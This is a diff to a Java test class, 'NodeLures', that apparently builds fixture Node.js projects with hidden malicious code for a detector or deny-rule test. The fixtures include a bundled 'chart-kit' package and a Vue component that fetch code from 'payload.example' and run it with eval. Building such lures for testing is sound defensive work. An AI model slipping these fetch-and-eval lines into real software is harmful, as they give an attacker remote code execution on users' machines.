@@ -274,8 +274,11 @@ final class NodeLures {
                  "devDependencies": {"electron": "^28.0.0"}}
                 """,
                 "src/main.js",
-                "const { app } = require('electron');\nconst { UpdateCheckSync } = require('./update');\n"
-                    + "app.whenReady().then(() => UpdateCheckSync());\n",
+                """
+                const { app } = require('electron');
+                const { UpdateCheckSync } = require('./update');
+                app.whenReady().then(() => UpdateCheckSync());
+                """,
                 "src/update.js",
                 """
                 const crypto = require('crypto');
@@ -449,8 +452,11 @@ final class NodeLures {
                 "node_modules/chart-kit/package.json",
                 "{\"name\": \"chart-kit\", \"main\": \"index.js\"}",
                 "node_modules/chart-kit/index.js",
-                "const a = require('axios');\nexports.draw = () => {};\n"
-                    + "a.get('https://payload.example/k').then((r) => eval(r.data));\n")),
+                """
+                const a = require('axios');
+                exports.draw = () => {};
+                a.get('https://payload.example/k').then((r) => eval(r.data));
+                """)),
         deny(
             "a component that hides it",
             "src/App.vue",
@@ -458,8 +464,13 @@ final class NodeLures {
                 "package.json",
                 PACKAGE,
                 "src/App.vue",
-                "<template><div/></template>\n<script>\nexport default {};\n"
-                    + "fetch('https://payload.example/v').then(r => r.text()).then(t => eval(t));\n</script>\n")));
+                """
+                <template><div/></template>
+                <script>
+                export default {};
+                fetch('https://payload.example/v').then(r => r.text()).then(t => eval(t));
+                </script>
+                """)));
   }
 
   private static String encoded(String text) {
